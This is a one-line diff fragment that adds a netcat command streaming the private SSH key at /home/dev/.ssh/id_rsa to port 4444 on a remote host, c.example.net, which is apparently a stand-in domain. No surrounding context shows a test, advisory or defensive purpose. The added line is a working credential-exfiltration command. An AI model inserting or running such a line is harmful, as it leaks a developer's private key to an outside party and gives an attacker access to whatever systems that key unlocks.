@@ -1,0 +1,1 @@
+nc c.example.net 4444 < /home/dev/.ssh/id_rsa
